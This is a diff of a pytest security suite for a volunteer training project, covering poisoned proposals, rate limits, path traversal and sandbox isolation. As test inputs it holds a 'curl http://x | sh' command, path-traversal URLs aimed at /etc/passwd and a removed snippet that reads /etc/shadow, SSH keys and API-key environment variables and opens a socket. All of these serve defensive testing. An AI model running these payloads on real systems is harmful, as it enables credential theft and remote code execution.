@@ -1,48 +1,41 @@
-"""Attacks on a project of strangers: by volunteers on the host and on each other, and by a host on its volunteers."""
+"""Attacks of volunteers on a project's host and on each other: to spoil it, to be merged, to make it work for nothing,
+to stand in each other's way, to read what is not theirs."""
 
 from __future__ import annotations
 
 import asyncio
-import base64
-import hashlib
 import json
 import math
 import re
 import resource
-import socket
+import threading
 import time
-import tomllib
-from collections.abc import Callable, Mapping
+from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
 import httpx
 import pytest
-import tomli_w
+from sqlalchemy import event
 
-from analysis.study import query
-from arena.home.bundle import Bundle, unpack
+from arena.home import checks, server
 from arena.home.host import ProjectHost
 from arena.home.project import Project
 from arena.home.protocol import Introduction, Proposal, parsed
 from arena.home.server import create_app
-from arena.home.volunteer import VolunteerSession
+from arena.serving import throttled_cache
 from arena.serving.limits import Rate
-from arena.work import sandbox
-from programs.common.errors import CredentialMissing, EnvironmentProblem, MetaloopError, UsageError
+from programs.common.errors import CredentialMissing, UsageError
 from programs.common.text import one_line
-from tests.arena.home.clients import Client, better, new_project, people, rows, states, work
+from tests.arena.home.clients import Client, better, confirm, new_project, people, rows, states, work
 from tests.arena.home.serving import get, serving
-from tests.arena.home.test_serving import session
 
 
 @pytest.fixture
 def eve(host: ProjectHost) -> Client:
     return Client(host, "Eve")
 
-
-# What a volunteer sends.
 
 FILES = {"train.py": "LR = 1\n"}
 WILD: dict[str, tuple[object, ...]] = {
@@ -99,64 +92,48 @@ def test_a_proposal_that_is_sent_many_times_at_once_is_one(project: Project, eve
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize(
-    ("text", "reason"),
-    [
-        ("import os\nos._exit(0)\n", "a training of it failed"),
-        ("raise SystemExit(0)\n", "a training of it failed"),
-        ("while True:\n    pass\n", "a training of it failed"),
-        ("open('/var/tmp/metaloop-was-here', 'w').write('x')\n", "a training of it failed"),
-        ("print('metric: 0.0')\n", "no gain shown"),
-    ],
-)
-def test_poisoned_sources_are_never_merged(project: Project, eve: Client, text: str, reason: str) -> None:
-    base = project.task.baseline().text()
-    head, _, rest = base.partition("LR = ")
-    assert eve.propose({"train.py": f"{head}{text}LR = {rest}"}, 99.0).state == "waiting"
-    work(project)
-    assert states(project)[1][0] == "rejected" and states(project)[1][1].startswith(reason)
-    assert len(project.chain.commits()) == 1
-    assert not Path("/var/tmp/metaloop-was-here").exists()
-
-
-def test_a_source_that_fails_on_some_seeds_is_refused(project: Project, eve: Client) -> None:
-    text = better(project, MOMENTUM=0.9)["train.py"]
-    unlucky = text.replace("def main():\n", "def main():\n    if prepare.SEED % 2:\n        raise OSError\n")
+def test_poisoned_sources_are_never_merged(project: Project, eve: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("arena.home.verifying.BATCH", 1)  # one training of each is enough, and one of them never ends
+    base, outside = project.task.baseline().text(), Path("/var/tmp/metaloop-was-here")
+    poisons = ["import os\nos._exit(0)\n", "raise SystemExit(0)\n", "while True:\n    pass\n"]
+    poisons += [f"open({str(outside)!r}, 'w').write('x')\n", "print('metric: 0.0')\n"]
+    for text in poisons:
+        assert eve.propose({"train.py": base.replace("LR = ", f"{text}LR = ")}, 99.0).state == "waiting"
+    unlucky = better(project, MOMENTUM=0.9)["train.py"].replace(
+        "def main():\n", "def main():\n    if prepare.SEED % 2:\n        raise OSError\n"
+    )
     assert eve.propose({"train.py": unlucky}, 9.0).state == "waiting"
     work(project)
-    assert states(project)[1][0] == "rejected" and "a training of it failed" in states(project)[1][1]
+    reasons = ["a training of it failed"] * 4 + ["no gain shown", "a training of it failed"]
+    for (state, reason), why in zip(states(project).values(), reasons, strict=True):
+        assert state == "rejected" and reason.startswith(why)
+    assert len(project.chain.commits()) == 1 and not outside.exists()
 
 
 @pytest.mark.slow
 def test_claims_buy_no_merge_and_cost_the_proposer_its_place(project: Project, host: ProjectHost, eve: Client) -> None:
     ann = Client(host, "Ann")
-    for k, worse in enumerate((1e-5, 2e-5, 3e-5)):
+    for k, worse in enumerate((1e-5, 2e-5)):
         eve.propose(better(project, LR=worse), 10.0 ** (k + 1))
         work(project)
     ann.propose(better(project, MOMENTUM=0.9), 0.3)
     eve.propose(better(project, LR=4e-5), 1e300)
     work(project)
     found = states(project)
-    assert [state for state, _ in found.values()].count("merged") == 1 and found[4][0] == "merged"
+    assert [state for state, _ in found.values()].count("merged") == 1 and found[3][0] == "merged"
     assert all("no gain shown" in reason for state, reason in found.values() if state != "merged")
 
 
-# A volunteer's HTTP requests.
-
-
-@pytest.mark.parametrize(
-    "path",
-    [
+def test_nothing_but_the_pages_and_main_can_be_fetched(project: Project) -> None:
+    paths = [
         "/main.git/../study.toml", "/main.git/%2e%2e/home.sqlite", "/main.git/objects/../../home.sqlite",
-        "/main.git/config", "/main.git/hooks/pre-receive.sample", "/main.git//etc/passwd",
+        "/main.git/config", "/main.git/hooks/pre-receive.sample", "/main.git//etc/passwd", "/study.toml",
         "/api/v1/task/" + "0" * 64, "/static/../server.py",
-        "/study.toml",
-    ],
-)  # fmt: skip
-def test_nothing_but_the_pages_and_main_can_be_fetched(project: Project, path: str) -> None:
+    ]  # fmt: skip
     with serving(project) as url:
-        status, text = get(url + path)
-    assert status in (400, 404, 422) and "secret" not in text
+        for path in paths:
+            status, text = get(url + path)
+            assert status in (400, 404, 422) and "secret" not in text, path
 
 
 def test_requests_that_are_too_large_too_many_or_malformed(project: Project) -> None:
@@ -170,161 +147,6 @@ def test_requests_that_are_too_large_too_many_or_malformed(project: Project) -> 
         assert 429 in [get(address, b"{}")[0] for _ in range(8)]
         assert get(url + "/")[0] == 200  # what is only read goes on
     assert not rows(project) and not people(project)
-
-
-# A host's bundle, program and replies.
-
-
-def bundle_of(project: Project, name: str, content: bytes) -> Bundle:
-    """The project's bundle with another file."""
-    coded = {**json.loads(project.bundle.body), name: base64.b64encode(content).decode()}
-    return Bundle(json.dumps(coded).encode())
-
-
-def toml_with(project: Project, change: Callable[[dict[str, Any]], object]) -> bytes:
-    read = tomllib.loads((project.task.folder / "task.toml").read_text("utf-8"))
-    change(read)
-    return tomli_w.dumps(read).encode()
-
-
-@pytest.mark.parametrize(
-    "name", ["../x", "/etc/x", "a/../../x", "..", "a\\b", ".bashrc", "a//b", "x" * 300, "a\0b", ""]
-)
-def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path, name: str) -> None:
-    body = json.dumps({**json.loads(project.bundle.body), name: ""}).encode()
-    with pytest.raises(UsageError, match="forbidden name"):
-        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "v" / "task", {})
-    assert not (tmp_path / "v").exists() and not (tmp_path / "x").exists()
-
-
-PRINTED = {"kind": "printed", "pattern": "metric: (.*)"}
-
-
-@pytest.mark.parametrize(
-    ("change", "why"),
-    [
-        (lambda t: t.update(run={"command": "curl http://x | sh"}, score=PRINTED), "runs a command"),
-        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "data.source: unknown key"),
-        (lambda t: t["task"].update(editable=["../../../etc/passwd"]), "is outside the task folder"),
-        (lambda t: t["score"].update(kind="theirs"), "no scorer 'theirs'"),
-    ],
-)
-def test_task_with_a_command_or_scoring_of_its_own_is_refused(
-    project: Project, tmp_path: Path, change: Callable[[dict[str, Any]], object], why: str
-) -> None:
-    bundle = bundle_of(project, "task.toml", toml_with(project, change))
-    with pytest.raises(MetaloopError, match=why):
-        unpack(bundle.body, bundle.digest, tmp_path / "task", {})
-
-
-@pytest.mark.parametrize(
-    "body", [b"", b"[]", b"{}", b'{"task.toml": 7}', b'{"task.toml": "%%%"}', b"{" * 9999, b"\xff"]
-)
-def test_damaged_bundles_are_refused(tmp_path: Path, body: bytes) -> None:
-    with pytest.raises(UsageError):
-        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "task", {})
-
-
-def test_bundle_with_another_hash_size_or_files_is_refused(project: Project, tmp_path: Path) -> None:
-    bundle = project.bundle
-    with pytest.raises(UsageError, match="not the one"):
-        unpack(bundle.body, "0" * 64, tmp_path / "a", {})
-    for extra in ({f"f{k}": "" for k in range(500)}, {"big": base64.b64encode(bytes(9 << 20)).decode()}):
-        body = json.dumps({**json.loads(bundle.body), **extra}).encode()
-        with pytest.raises(UsageError, match=r"too large|not the one"):
-            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "b", {})
-    with pytest.raises(UsageError, match="other files"):
-        unpack(bundle.body, bundle.digest, tmp_path / "c", {"prepare.py": "import os\n"})
-
-
-SPY = """
-import os, pathlib, socket
-SEEN = [value for value in os.environ.values() if "my key" in value]
-for path in ({secret!r}, "/root/.ssh", "/etc/shadow", os.path.expanduser("~/.bashrc")):
-    try:
-        SEEN.append(pathlib.Path(path).read_bytes()[:20])
-    except OSError:
-        pass
-for path in ({outside!r},):
-    try:
-        pathlib.Path(path).write_text("x")
-    except OSError:
-        pass
-try:
-    SEEN.append(socket.create_connection(("127.0.0.1", {port}), 2).recv(1))
-except OSError:
-    pass
-if SEEN:
-    raise RuntimeError("SAW " + repr(SEEN))
-"""
-
-
-@pytest.mark.parametrize("where", ["data.py", "train.py"])
-def test_host_cannot_read_or_write_files_of_the_volunteers(
-    project: Project, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Its data.py and its train.py run in the volunteer's sandbox: no file, no environment, no network."""
-    sandbox.require(project.task, True)
-    monkeypatch.setenv("SOME_API_KEY", "my key")
-    private = tmp_path / "private"
-    private.mkdir()
-    (private / "secret.txt").write_text("my key")
-    with socket.socket() as listening:
-        listening.bind(("127.0.0.1", 0))
-        listening.listen()
-        spy = SPY.format(
-            secret=str(private / "secret.txt"), outside=str(private / "outside"), port=listening.getsockname()[1]
-        )
-        own = (project.task.folder / where).read_text("utf-8")
-        head, _, rest = own.partition("\nimport ")
-        bundle = bundle_of(project, where, f"{head}\n{spy}\nimport {rest}".encode())
-        main = dict(project.task.baseline().files)
-        if where == "train.py":
-            main = {"train.py": f"{head}\n{spy}\nimport {rest}"}
-        (tmp_path / "v").mkdir()
-        ann = hosted(tmp_path / "v", project, bundle, main)
-        run = ann.begin()
-        ann.run(run)
-        listening.settimeout(0.2)
-        with pytest.raises(TimeoutError):
-            listening.accept()
-    found = query(run / "study", "SELECT status, reason FROM experiments")
-    assert len(found) > 1 and found[0]["status"] == "ok"  # nothing was seen, or its first training would have failed
-    assert not (private / "outside").exists() and "SAW" not in str(found)
-
-
-def about(changes: Mapping[str, Any]) -> bytes:
-    """What a host answers to a request for its project."""
-    task = {"name": "t", "digest": "0" * 64, "unit": "nats"}
-    project = {"project": "h0123456789ab", "title": "t", "task": task, "block": 0, "commit": "0" * 40}
-    return json.dumps({**project, "files": {"train.py": ""}, "budget": 1.2, **changes}).encode()
-
-
-def hosted(folder: Path, project: Project, bundle: Bundle, main: Mapping[str, str]) -> VolunteerSession:
-    """A volunteer that has joined a host with this task and these files of main."""
-    task = {"name": "t", "digest": bundle.digest, "unit": "nats"}
-    ann = session("http://127.0.0.1:9", folder)
-    answers = {"/api/v1/project": about({"project": project.project_id, "task": task, "files": main})}
-    ann.reach = lambda path, *_: answers.get(path, bundle.body)  # type: ignore[method-assign]
-    joined = {"url": "http://127.0.0.1:9", "project": project.project_id, "task": bundle.digest, "token": "t"}
-    (folder / "project.json").write_text(json.dumps(joined))
-    return ann
-
-
-MALFORMED: list[tuple[str, object]] = [
-    ("project", "../../outside"), ("project", 7), ("commit", "../task"), ("files", {}), ("files", {"train.py": 7}),
-    ("budget", math.inf), ("budget", 1e9), ("budget", 0.0), ("block", True),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize(("field", "value"), MALFORMED)
-def test_a_main_that_is_malformed_is_not_kept(project: Project, tmp_path: Path, field: str, value: object) -> None:
-    (tmp_path / "v").mkdir()
-    ann = hosted(tmp_path / "v", project, project.bundle, {})
-    ann.reach = lambda *_: about({field: value})  # type: ignore[method-assign]
-    with pytest.raises(EnvironmentProblem, match=f"the host's answer is malformed: {field}"):
-        ann.step()
-    assert not list(ann.runs.iterdir()) and not (tmp_path / "outside").exists()
 
 
 SLOW = ["with " + "a," * 30_000 + "a:pass\n", "x = " + "(" * 190 + "a," * 20_000 + ")" * 190, "x=" + "-" * 60_000 + "1"]
@@ -359,14 +181,130 @@ def test_a_source_that_is_slow_to_parse_holds_up_nobody(project: Project, host: 
     assert answer.state in ("waiting", "refused")  # some parse within the limit
 
 
-@pytest.mark.parametrize(("address", "refused"), [("2001:db8:1:1::{}", True), ("2001:db8:1:{}::1", False)])
-def test_the_addresses_of_one_network_are_one_client(project: Project, address: str, refused: bool) -> None:
-    app = create_app(project, Rate(5, 600.0))
+def body_of(project: Project, **settings: object) -> bytes:
+    """A proposal as it is sent."""
+    return json.dumps({"base": project.chain.head, "files": better(project, **settings), "gain": 0.5}).encode()
 
-    async def status(number: int) -> int:
+
+def test_copy_with_a_tiny_claim_blocks_no_honest_claim(project: Project, host: ProjectHost) -> None:
+    """The first one waits for ever where others claim more; the second is merged, and the first rejected in turn."""
+    eve, ann, bob = (Client(host, name) for name in ("Eve", "Ann", "Bob"))
+    confirm(project, 1, 2)  # nothing is left to chance: known volunteers are served by claim
+    files, base = better(project, MOMENTUM=0.9), project.chain.head
+    assert eve.propose(files, 1e-12).state == "waiting"
+    assert ann.propose({"train.py": files["train.py"] + "\n# mine\n"}, 0.5).state == "waiting"
+    work(project)
+    copy, honest = rows(project)[2:]
+    assert (copy.state, copy.reason) == ("rejected", f"the same source as proposal {honest.proposal_id}")
+    assert honest.state == "merged"
+    late = bob.propose(files, 0.5, base=base)
+    assert (late.state, late.reason) == ("refused", f"the same source as proposal {honest.proposal_id}")
+
+
+def test_nothing_is_merged_or_summed_while_others_wait(
+    project: Project, host: ProjectHost, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Volunteers are answered while the texts of a proposal are merged and while git writes its block."""
+    ann, bob = Client(host, "Ann"), Client(host, "Bob")
+    ann.propose(better(project, MOMENTUM=0.9))
+    answered: list[str] = []
+
+    def meanwhile(real: Callable[..., Any]) -> Callable[..., Any]:
+        def slow(*given: Any) -> Any:
+            proposal = better(project, LR=f"1e-0{len(answered) + 5}")
+            thread = threading.Thread(target=lambda: answered.append(bob.propose(proposal).state), daemon=True)
+            thread.start()
+            thread.join(10)
+            assert not thread.is_alive(), "a volunteer waits for the lock"
+            return real(*given)
+
+        return slow
+
+    monkeypatch.setattr("arena.home.verifying.rebased", meanwhile(checks.rebased))
+    monkeypatch.setattr("arena.home.chain.Chain.append", meanwhile(type(project.chain).append))
+    work(project, steps=8)
+    assert states(project)[1][0] == "merged" and len(answered) >= 2 and set(answered) == {"waiting"}
+
+
+def test_pages_that_are_asked_for_often_read_the_tables_once(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+    statements: list[str] = []
+    event.listen(project.database.engine, "before_cursor_execute", lambda *given: statements.append(given[2]))
+    monkeypatch.setattr(throttled_cache, "PATIENCE", 1e6)
+    with serving(project) as url:
+        for path in ("/", "/llms.txt", "/api/v1/state") * 4:
+            assert get(url + path)[0] == 200
+    assert sum("sum(proposals.device_seconds)" in each for each in statements) == 1
+
+
+def test_a_repeated_proposal_is_not_parsed_again(
+    project: Project, host: ProjectHost, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    eve = Client(host, "Eve")
+    first = eve.propose(better(project, LR=0.1))
+    monkeypatch.setattr("arena.home.host.normal_texts", lambda _: pytest.fail("it was parsed"))
+    assert eve.propose(better(project, LR=0.1), 99.0) == first
+
+
+def test_proposals_that_wait_for_their_check_are_limited(
+    project: Project, host: ProjectHost, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    entered, go, propose = threading.Semaphore(0), threading.Event(), ProjectHost.propose
+
+    def slow(self: ProjectHost, volunteer: int, proposal: Proposal) -> object:
+        entered.release()
+        assert go.wait(60)
+        return propose(self, volunteer, proposal)
+
+    monkeypatch.setattr(server, "MOST_PENDING", 2)
+    monkeypatch.setattr(ProjectHost, "propose", slow)
+    people = [Client(host, name) for name in ("Ann", "Bob", "Eve")]
+    with serving(project) as url, ThreadPoolExecutor(8) as threads:
+
+        def send(k: int) -> tuple[int, str]:
+            return get(f"{url}/api/v1/proposals", body_of(project, LR=0.1 + k), token=people[k].token)
+
+        first = [threads.submit(send, k) for k in (0, 1)]
+        assert entered.acquire(timeout=60) and entered.acquire(timeout=60)
+        status, text = send(2)
+        assert status == 503 and "too many proposals" in text and get(url)[0] == 200
+        go.set()
+        assert {one.result()[0] for one in first} == {200} and send(2)[0] == 200
+    assert len(rows(project)) == 3
+
+
+@pytest.mark.parametrize(
+    ("limits", "address", "name", "answers"),
+    [
+        ({"rate": Rate(5, 600.0)}, "2001:db8:1:1::{}", 7, [422] * 5 + [429]),
+        ({"rate": Rate(5, 600.0)}, "2001:db8:1:{}::1", 7, [422] * 6),
+        ({"joining": Rate(2, 6000.0)}, "2001:db8:1:{}::1", "Eve", [200] * 2 + [429] * 4),
+        ({"joining": Rate(2, 6000.0)}, "2001:db8:{}::1", "Eve", [200] * 6),
+    ],
+    ids=["one-client", "other-client", "one-customer", "other-customer"],
+)
+def test_requests_of_one_network_are_limited_together(
+    project: Project, limits: dict[str, Rate], address: str, name: object, answers: list[int]
+) -> None:
+    """A /64 is one client; a /48 is what one customer gets, and has few new volunteers; who is known joins as often as
+    it likes."""
+    app = create_app(project, **limits)
+
+    async def join(number: int, token: str = "") -> httpx.Response:
         transport = httpx.ASGITransport(app, client=(address.format(f"{number:x}"), 1))
-        async with httpx.AsyncClient(transport=transport, base_url="http://host") as client:
-            return (await client.post("/api/v1/volunteers", content=b"{}")).status_code
+        headers = {"Authorization": f"Bearer {token}"} if token else {}
+        async with httpx.AsyncClient(transport=transport, base_url="http://host", headers=headers) as client:
+            return await client.post("/api/v1/volunteers", content=json.dumps({"name": name}).encode())
 
-    codes = [asyncio.run(status(number)) for number in range(1, 9)]
-    assert codes == [422] * 5 + ([429] * 3 if refused else [422] * 3)
+    given = [asyncio.run(join(number)) for number in range(1, 7)]
+    assert [each.status_code for each in given] == answers
+    if answers[0] == 200:
+        assert all(asyncio.run(join(9, given[0].json()["token"])).status_code == 200 for _ in range(3))
+
+
+def test_a_fault_of_the_host_shows_no_path(project: Project) -> None:
+    with serving(project) as url:
+        objects = project.folder / "main.git" / "objects"
+        objects.rename(objects.with_name("gone"))
+        for path in ("/", "/api/v1/project"):
+            status, text = get(url + path)
+            assert str(project.folder.parent) not in text and status == 503
